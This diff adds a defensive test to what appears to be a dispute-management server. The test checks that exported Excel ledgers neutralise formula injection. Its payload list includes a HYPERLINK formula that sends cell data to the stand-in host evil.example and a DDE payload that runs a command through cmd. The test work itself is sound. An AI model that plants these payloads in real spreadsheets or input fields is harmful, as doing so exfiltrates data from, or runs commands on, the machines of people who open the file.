@@ -100,3 +100,40 @@ def test_a_password_change_takes_every_token_back(client, world, login):
     assert refused.status_code == 401
     assert refused.json["code"] == "token_revoked"
     assert db.session.get(User, world.worker1.id).token_secret
+
+
+# --- 4. formulas in the ledgers ------------------------------------------------------------
+
+ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0",
+           "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1"]
+
+
+def test_what_people_typed_is_text_in_every_ledger(world):
+    import io
+    from datetime import datetime
+    from zoneinfo import ZoneInfo
+
+    from openpyxl import load_workbook
+
+    from server import clock, ledgers, statistics
+    from server.operations import Party
+    from tests.helpers import new_report
+
+    at = datetime(2026, 6, 10, 10, tzinfo=ZoneInfo("Asia/Shanghai"))
+    with clock.frozen_at(at):
+        for attack in ATTACKS:
+            new_report(world, "D02", description=attack, place_text=attack.strip()[:200],
+                       parties=[Party(name=attack.strip()[:64], side="applicant")])
+    for kind in ("disputes", "cases"):
+        out = io.BytesIO()
+        with clock.frozen_at(at.replace(month=7)):
+            assert ledgers.write(kind, statistics.month(2026, 6), out) == len(ATTACKS)
+        book = load_workbook(io.BytesIO(out.getvalue()))  # not read-only: cell types
+        cells = [c for row in book.active.iter_rows(min_row=2) for c in row]
+        assert not [c.coordinate for c in cells if c.data_type == "f"], kind
+        texts = [c.value for c in cells if isinstance(c.value, str)]
+        assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t"))
+                    and not t[:1].isdigit()], kind
+        if kind == "disputes":  # it carries the parties and the description
+            for attack in ATTACKS:
+                assert any(attack.strip() in t for t in texts), (kind, attack)
